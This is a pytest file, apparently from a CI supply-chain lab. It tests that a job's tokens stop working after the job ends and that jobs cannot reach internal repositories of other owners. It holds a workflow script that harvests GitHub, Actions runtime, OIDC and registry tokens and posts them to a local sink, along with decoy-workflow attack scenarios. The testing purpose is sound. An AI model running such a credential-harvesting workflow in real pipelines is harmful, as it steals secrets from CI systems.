"""What a job holds: its own tokens until it ends, and of other repositories what it names itself."""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from project_folders import Make

from chainlab import jobs
from chainlab.course.exfiltration_sink import Sink
from chainlab.credentials import Credentials
from chainlab.errors import ChainlabError, Unavailable
from chainlab.jobs import Jobs
from chainlab.world import World

X = ".github/workflows/x.yml"
COLLECT = """
import base64, json, os, urllib.request
opener = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
url = os.environ["CHAINLAB_URL"]
def ask(address, data=None, **headers):
    return opener.open(urllib.request.Request(address, data=data, headers=headers)).read()
found = {{"github": os.environ["T"], "runtime": os.environ["ACTIONS_RUNTIME_TOKEN"]}}
found["bearer"] = bearer = os.environ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"]
for audience in ("sigstore", "chainlab-index", "chainlab-deploy", "chainlab-index"):
    address = os.environ["ACTIONS_ID_TOKEN_REQUEST_URL"] + "&audience=" + audience
    token = json.loads(ask(address, Authorization="Bearer " + bearer))["value"]
    if audience in found:
        minted = json.loads(ask(url + "/_/oidc/mint-token", json.dumps({{"token": token}}).encode()))
        found["minted"] = minted["token"]
    found.setdefault(audience, token)
basic = "Basic " + base64.b64encode(("x:" + os.environ["T"]).encode()).decode()
found["oci"] = json.loads(ask(url + "/v2/token", Authorization=basic))["token"]
ask("http://127.0.0.1:{port}/", json.dumps(found).encode())
"""
TREES = (
    "awk '$5 ~ /trees/ {print \"tree\", $5}' /proc/self/mountinfo; "
    'find "$(dirname "$CHAINLAB_POST")/start" -name \'*.yml\''
)
SETTINGS = {"publishers": [{"project": "walled", "workflow": "x.yml"}]}


def collecting(sink: Sink) -> dict[str, str]:
    script = COLLECT.format(port=sink.port)
    lines = "".join(f"          {line}\n" for line in f"python3 - <<'END'\n{script}\nEND".splitlines())
    return {
        X: "on: push\npermissions: {id-token: write, packages: write, contents: read}\njobs:\n  build:\n"
        "    runs-on: ubuntu-latest\n    env: {T: '${{ github.token }}'}\n    steps:\n      - run: |\n" + lines
    }


def walled(world: World) -> None:
    if not world.ci.sandbox.is_namespace:
        pytest.skip("a job has no mounts of its own here")


def bearer(secret: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}"}


def request() -> str:
    """A certificate signing request, as Fulcio takes it."""
    key = ec.generate_private_key(ec.SECP256R1())
    signing_request = x509.CertificateSigningRequestBuilder().subject_name(x509.Name([])).sign(key, hashes.SHA256())
    return base64.b64encode(signing_request.public_bytes(serialization.Encoding.PEM)).decode()


def good(world: World, tokens: dict[str, str]) -> set[str]:
    """Which of a job's credentials still do something."""
    credentials, trust = world.registry.credentials, world.trust
    left = {name for name in ("github", "runtime", "minted", "oci") if credentials.check(tokens[name])}
    with httpx.Client(base_url=world.url, trust_env=False, timeout=30) as http:
        responses = {
            "github": http.get("/v2/", headers=bearer(tokens["github"])),
            "runtime": http.get("/ci/artifacts/1", headers=bearer(tokens["runtime"])),
            "bearer": http.get("/ci/token?audience=sigstore", headers=bearer(tokens["bearer"])),
            "oci": http.get("/v2/", headers=bearer(tokens["oci"])),
            "minted": http.post("/legacy/", headers={"Content-Length": "0"} | bearer(tokens["minted"])),
            "chainlab-index": http.post("/_/oidc/mint-token", json={"token": tokens["chainlab-index"]}),
            "chainlab-deploy": http.post(
                "/deploy/verdicts", json={"reference": "oci/acme/x:v1"}, headers=bearer(tokens["chainlab-deploy"])
            ),
            "sigstore": http.post(
                "/api/v2/signingCert", json={"certificateSigningRequest": request()}, headers=bearer(tokens["sigstore"])
            ),
        }
    assert trust.url == world.url
    refused = {"minted": 403, "chainlab-index": 422}
    return left | {name for name, answer in responses.items() if answer.status_code != refused.get(name, 401)}


def failing(times: int, original: Callable[..., object]) -> Callable[..., object]:
    left = [times]

    def write(*words: object, **named: object) -> object:
        if left[0]:
            left[0] -= 1
            raise Unavailable("database is locked")
        return original(*words, **named)

    return write


@pytest.mark.parametrize("trouble", ["none", "the end cannot be written at first", "nothing can be revoked"])
def test_no_credential_of_a_job_outlives_it(
    make: Make, world: World, sink: Sink, monkeypatch: pytest.MonkeyPatch, trouble: str
) -> None:
    if trouble == "the end cannot be written at first":
        monkeypatch.setattr(Jobs, "end", failing(3, Jobs.end))
    if trouble == "nothing can be revoked":
        monkeypatch.setattr(jobs, "LEASE", 4.0)
        monkeypatch.setattr(jobs, "RENEWAL", 0.5)
        for kind, name in ((Jobs, "end"), (Credentials, "revoke")):
            monkeypatch.setattr(kind, name, failing(10**9, lambda: None))
    project = make("acme/walled", collecting(sink), SETTINGS)
    run = project.run("push", ports=[sink.port])
    assert run.result == "success", run.log
    tokens = json.loads(sink.received[0])
    assert set(tokens) == {
        "github",
        "runtime",
        "bearer",
        "sigstore",
        "chainlab-index",
        "chainlab-deploy",
        "minted",
        "oci",
    }
    assert good(world, tokens) == set()


def test_the_tokens_of_a_job_whose_host_was_killed_end_by_themselves(
    make: Make, world: World, sink: Sink, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(jobs, "LEASE", 6.0)
    monkeypatch.setattr(Jobs, "renew", lambda self, job: None)  # nobody is left to do it
    monkeypatch.setattr(Jobs, "end", failing(10**9, Jobs.end))
    monkeypatch.setattr(Credentials, "revoke", lambda self, **_: 0)
    make("acme/walled", collecting(sink), SETTINGS).run("push", ports=[sink.port])
    assert good(world, json.loads(sink.received[0])) == set()


# -- what of other repositories is in a job's sandbox


def jobs_of(*texts: str) -> dict[str, str]:
    return {X: "on: [push, pull_request]\npermissions: {}\njobs:\n" + "".join(texts)}


def look(name: str, *steps: str) -> str:
    more = "".join(f"      - {step}\n" for step in steps)
    return f"  {name}:\n    runs-on: ubuntu-latest\n    steps:\n{more}      - run: |\n          {TREES}\n"


def test_a_job_finds_only_what_it_names_itself(make: Make, world: World) -> None:
    walled(world)
    called = "on: workflow_call\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps: [{run: 'true'}]\n"
    files = jobs_of(
        look("bare"),
        look("one", "uses: actions/setup-python@v5"),
        "  call:\n    uses: ./.github/workflows/called.yml\n",
        "  decoy:\n    if: false\n    uses: acme/workflows/.github/workflows/notes.yml@main\n",
    )
    run = make("acme/bare", files | {".github/workflows/called.yml": called}).run("push")
    assert run.result == "success", run.log
    assert run.jobs["bare"].log == ""
    trees = {line.split()[1] for line in run.jobs["one"].log.splitlines() if line.startswith("tree")}
    assert {Path(tree).name for tree in trees} == {run.actions["actions/setup-python@v5"]}
    assert "called.yml" not in run.jobs["one"].log
    assert run.jobs["call"].result == "success"
    assert "acme/workflows@main" in run.actions  # resolved for the record, and bound nowhere else


@pytest.fixture
def closed(make: Make) -> None:
    """Internal repositories of two owners, with a reusable workflow each."""
    for owner in ("acme", "initech"):
        files = jobs_of("  a:\n    runs-on: ubuntu-latest\n    steps: [{run: 'true'}]\n")
        files[X] = files[X].replace("[push, pull_request]", "workflow_call")
        make(f"{owner}/closed", files | {"secret.py": "# its own source\n"}, {"visibility": "internal"})


def test_a_decoy_brings_no_internal_repository_into_another_job(closed: None, make: Make, world: World) -> None:
    walled(world)
    files = jobs_of("  decoy:\n    if: false\n    uses: acme/closed/.github/workflows/x.yml@main\n", look("steal"))
    run = make("acme/open", files, {"visibility": "public"}).run("push")
    assert run.jobs["steal"].log == ""


@pytest.mark.parametrize("owner", ["acme", "initech"])
@pytest.mark.parametrize("event", ["pull_request", "push"])
def test_a_stranger_names_no_internal_repository(
    closed: None, make: Make, tmp_path: Path, owner: str, event: str
) -> None:
    plain = jobs_of(look("a"))
    evil = jobs_of(f"  decoy:\n    if: false\n    uses: {owner}/closed/.github/workflows/x.yml@main\n", look("steal"))
    base = make("acme/open", plain, {"visibility": "public"})
    change = tmp_path / "change"
    shutil.copytree(base.folder, change)
    (change / X).write_text(evil[X])
    pull = base.pull_request(branch="typo", folder=change, title="typo", owner="eve")
    project = base if event == "pull_request" else make("mallory/open", evil, {"visibility": "public"})
    with pytest.raises(ChainlabError, match="cannot be resolved") as refused:
        project.run(event, pull=pull if event == "pull_request" else None)
    assert f"no such repository: '{owner}/closed'" in str(refused.value)


def test_an_internal_workflow_is_called_by_the_same_owners_runs(closed: None, make: Make) -> None:
    files = jobs_of("  call:\n    uses: Acme/Closed/.github/workflows/x.yml@main\n".lower())
    assert make("acme/caller", files).run("push").result == "success"
